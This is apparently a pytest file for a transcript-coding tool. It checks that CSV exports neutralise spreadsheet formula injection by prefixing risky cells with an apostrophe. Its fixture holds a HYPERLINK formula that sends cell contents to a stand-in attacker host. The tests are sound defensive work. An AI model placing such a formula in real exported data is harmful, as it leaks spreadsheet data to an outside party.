# SPDX-License-Identifier: MIT
"""Every csv qualcarto writes opens in a spreadsheet as data, never as a formula (OWASP).

A transcript passage that starts with ``=``, ``+``, ``-`` or ``@`` is coded, then written by
each csv writer; the cell must reach a spreadsheet with a leading apostrophe, numbers must stay
numbers, and ``--raw`` must keep the text exactly as stored.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine

from qualcarto.cli import main
from qualcarto.coding import add_coding
from qualcarto.exchange.csv_safe import neutralize, spreadsheet_safe
from qualcarto.store import session_scope
from qualcarto.transcripts import import_transcripts

HOSTILE = '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")'
TEXT = f"P2: {HOSTILE} then ordinary words.\n"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe(cell: object, expected: object) -> None:
    assert neutralize(cell) == expected


def test_numbers_stay_numbers_and_column_names_are_safe_too() -> None:
    frame = pd.DataFrame({"=x": ["-y", "z"], "kappa": [-0.5, 0.25]})
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["'=x", "kappa"]
    assert safe["'=x"].tolist() == ["'-y", "z"]
    assert safe["kappa"].tolist() == [-0.5, 0.25]


@pytest.fixture
def hostile_study(study: Engine, tmp_path: Path) -> str:
    source = tmp_path / "P2.txt"
    source.write_text(TEXT, encoding="utf-8")
    with session_scope(study) as session:
        import_transcripts(session, [source])
        add_coding(session, "P2", 4, 4 + len(HOSTILE), "access", "ana")
    return str(study.url)


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize(
    "command",
    [
        ["export", "csv", "{out}"],
        ["coding", "list", "-o", "{out}"],
    ],
)
def test_csv_exports_neutralize_formulas_unless_raw(
    hostile_study: str, tmp_path: Path, command: list[str]
) -> None:
    out = tmp_path / "out.csv"
    args = ["--db", hostile_study, *(a.format(out=out) for a in command)]
    assert main(args) == 0
    cells = _cells(out)
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    assert main([*args, "--raw"]) == 0
    assert HOSTILE in _cells(out)


def test_the_agreement_csv_neutralizes_excerpts(
    hostile_study: str, study: Engine, tmp_path: Path
) -> None:
    with session_scope(study) as session:  # ben codes elsewhere: ana's passage is a disagreement
        add_coding(session, "P1", 0, 11, "access", "ben")
    out = tmp_path / "disagreements.csv"
    args = ["--db", hostile_study, "agreement", "ana", "ben", "--disagreements"]
    assert main([*args, "--format", "csv", "-o", str(out)]) == 0
    cells = _cells(out)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)
